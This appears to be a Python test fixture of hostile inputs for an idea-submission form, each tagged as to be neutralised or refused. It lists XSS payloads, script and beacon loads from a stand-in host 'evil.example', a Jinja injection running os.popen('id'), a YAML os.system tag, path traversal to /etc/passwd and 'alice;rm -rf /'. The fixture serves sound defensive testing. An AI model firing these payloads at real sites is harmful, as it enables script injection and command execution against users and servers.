"""Hostile inputs, each aimed at one field of the idea form.

Every case is (name, field, text, fate): `kept` when the idea must be filed
with the text neutralised on the page, `refused` when the intake must turn
the issue down and write nothing.
"""

from __future__ import annotations

ALERT = "alert(1)"
EVIL = "evil.example"

CASES: list[tuple[str, str, str, str]] = [
    # script, in every spelling
    ("script tag", "problem", "<script>alert(1)</script>", "kept"),
    ("script tag in a title", "title", "Soup <script>alert(1)</script>", "kept"),
    ("script tag in a summary", "summary", "<script>alert(1)</script> jars", "kept"),
    ("upper-case script with src", "proposal", f"<SCRIPT SRC=//{EVIL}/x.js></SCRIPT>", "kept"),
    ("nested script", "problem", "<scr<script>ipt>alert(1)</scr</script>ipt>", "kept"),
    ("script inside svg", "benefits", "<svg><script>alert(1)</script></svg>", "kept"),
    ("attribute breakout in a title", "title", '"><img src=x onerror=alert(1)>', "kept"),
    ("comment breakout", "summary", "'--><svg onload=alert(1)>", "kept"),
    # event handlers
    ("img onerror", "problem", "<img src=x onerror=alert(1)>", "kept"),
    ("body onload", "proposal", "<body onload=alert(1)>", "kept"),
    ("div onmouseover", "problem", '<div onmouseover="alert(1)">hover me</div>', "kept"),
    ("a onclick", "proposal", '<a href="#" onclick="alert(1)">click</a>', "kept"),
    ("details ontoggle", "problem", "<details open ontoggle=alert(1)>", "kept"),
    ("video source onerror", "benefits", "<video><source onerror=alert(1)></video>", "kept"),
    ("input autofocus onfocus", "problem", "<input autofocus onfocus=alert(1)>", "kept"),
    ("marquee onstart", "proposal", "<marquee onstart=alert(1)>x</marquee>", "kept"),
    ("svg onload", "problem", "<svg onload=alert(1)>", "kept"),
    ("svg animate onbegin", "benefits",
     "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "kept"),
    # javascript: and data: links, in their encodings
    ("markdown javascript link", "problem", "[click](javascript:alert(1))", "kept"),
    ("mixed-case scheme", "proposal", "[click](JaVaScRiPt:alert(1))", "kept"),
    ("entity in the scheme", "problem", "[click](java&#115;cript:alert(1))", "kept"),
    ("entity first letter", "benefits", "[click](&#106;avascript:alert(1))", "kept"),
    ("colon entity", "problem", "[click](javascript&colon;alert(1))", "kept"),
    ("leading space", "proposal", "[click]( javascript:alert(1))", "kept"),
    ("percent-encoded scheme", "problem", "[click](%6Aavascript:alert(1))", "kept"),
    ("angle-bracket link", "benefits", "[click](<javascript:alert(1)>)", "kept"),
    ("autolink", "problem", "<javascript:alert(1)>", "kept"),
    ("reference link", "proposal", "[click][r]\n\n[r]: javascript:alert(1)", "kept"),
    ("html javascript href", "problem", '<a href="javascript:alert(1)">x</a>', "kept"),
    ("vbscript", "benefits", "[click](vbscript:msgbox(1))", "kept"),
    ("data html link", "problem",
     "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "kept"),
    ("data svg image", "proposal",
     "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "kept"),
    ("svg xlink javascript", "problem",
     '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "kept"),
    # attr_list and other Markdown extensions
    ("attr_list on a paragraph", "problem", 'Hello\n{: onclick="alert(1)" }', "kept"),
    ("attr_list on a heading", "proposal", "### Heading {: onmouseover=alert(1) }", "kept"),
    ("attr_list on a link", "benefits", "[x](https://example.org){: onclick=alert(1)}", "kept"),
    ("attr_list on an image", "problem", "![x](https://example.org/x.png){: onerror=alert(1)}",
     "kept"),
    ("external image beacon", "proposal", f"![x](https://{EVIL}/beacon.png)", "kept"),
    # frames, objects, forms, document-level tags
    ("iframe javascript", "problem", '<iframe src="javascript:alert(1)"></iframe>', "kept"),
    ("iframe srcdoc", "proposal", '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
     "kept"),
    ("object", "benefits", '<object data="javascript:alert(1)"></object>', "kept"),
    ("embed", "problem", "<embed src=javascript:alert(1)>", "kept"),
    ("form", "proposal", '<form action="javascript:alert(1)"><button>go</button></form>',
     "kept"),
    ("meta refresh", "problem", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
     "kept"),
    ("base href", "benefits", '<base href="javascript:alert(1)//">', "kept"),
    ("external stylesheet", "problem", f"<link rel=stylesheet href=//{EVIL}/x.css>", "kept"),
    # CSS tricks
    ("style tag", "proposal", f"<style>body{{background:url(//{EVIL}/x)}}</style>", "kept"),
    ("style attribute url", "problem",
     '<div style="background:url(javascript:alert(1))">x</div>', "kept"),
    ("full-page overlay", "benefits",
     '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>', "kept"),
    # mutation XSS
    ("noscript breakout", "problem",
     '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "kept"),
    ("math mglyph", "proposal",
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "kept"),
    # template syntax
    ("jinja expression", "problem", "{{ 7*7 }} and {{ config.__class__ }}", "kept"),
    ("jinja statement", "proposal", "{% for x in range(3) %}{{ x }}{% endfor %}", "kept"),
    ("jinja globals", "benefits",
     "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "kept"),
    ("jinja in a title", "title", "{{ 7*7 }} soups", "kept"),
    ("other template syntaxes", "problem", "${7*7} <%= 7*7 %> #{7*7}", "kept"),
    # YAML and paths
    ("yaml alias text", "problem", "&a [*a, *a, *a]\n*a: !!python/object:os.system x", "kept"),
    ("yaml document markers", "proposal", "---\n...\n--- !!binary", "kept"),
    ("path traversal title", "title", "../../../../etc/passwd", "kept"),
    ("windows path title", "title", "..\\..\\boot.ini", "kept"),
    # refused outright
    ("bidi override in a title", "title", "Soup \u202etxt.exe", "refused"),
    ("zero-width space in a title", "title", "Soup\u200bjars", "refused"),
    ("bell in a summary", "summary", "Soup jars\u0007", "refused"),
    ("escape sequence in a problem", "problem", "Soup \u001b[31mred\u001b[0m", "refused"),
    ("null byte", "proposal", "Soup\u0000jars", "refused"),
    ("co-author script", "coauthors", "<script>alert(1)</script>", "refused"),
    ("co-author traversal", "coauthors", "../../etc", "refused"),
    ("co-author command", "coauthors", "alice;rm -rf /", "refused"),
    # texts that stop a build, reorder what they say, or reach beyond the idea
    ("lists nested 2,000 deep", "benefits", "Less waste.\n\n" + "- " * 2_000 + "x", "refused"),
    ("20,000 opening brackets", "problem", "[" * 20_000, "refused"),
    ("bidi override in a problem", "problem", "Pay \u202e0001\u202c pounds", "refused"),
    ("bidi isolate in a proposal", "proposal", "Call \u2067us\u2069 back", "refused"),
    ("a heading line of 60,000 spaces", "problem", "### a" + " " * 60_000 + "b", "refused"),
    ("closing keywords and a mention in a title", "title", "Closes #45, fixes #47 @lucy-cho",
     "kept"),
    ("co-authors typed as names", "coauthors", "Julie Bernard, ma voisine", "refused"),
    ("a juror as co-author", "coauthors", "@marta-okafor", "refused"),
    ("eleven co-authors", "coauthors", ", ".join(f"@friend-{n}" for n in range(11)), "refused"),
    ("tag not on the list", "tags", "<img src=x onerror=alert(1)>", "refused"),
    ("title too long", "title", "A" * 201, "refused"),
    ("ten-megabyte body", "problem", "soup " * 2_000_000, "refused"),
]
